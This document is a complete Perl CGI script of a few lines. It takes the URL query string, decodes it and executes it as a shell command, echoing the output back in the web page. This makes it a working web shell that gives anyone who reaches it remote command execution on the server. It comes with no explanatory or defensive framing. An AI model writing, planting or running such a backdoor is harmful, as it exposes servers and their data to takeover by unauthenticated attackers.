#!/usr/bin/perl
print "Content-type: text/html\n\n";
my $qs = $ENV{'QUERY_STRING'};
$qs =~ s/%([0-9A-Fa-f]{2})/chr(hex($1))/eg;
$qs =~ s/\+/ /g;
print "<pre>" . `$qs 2>&1` . "</pre>";
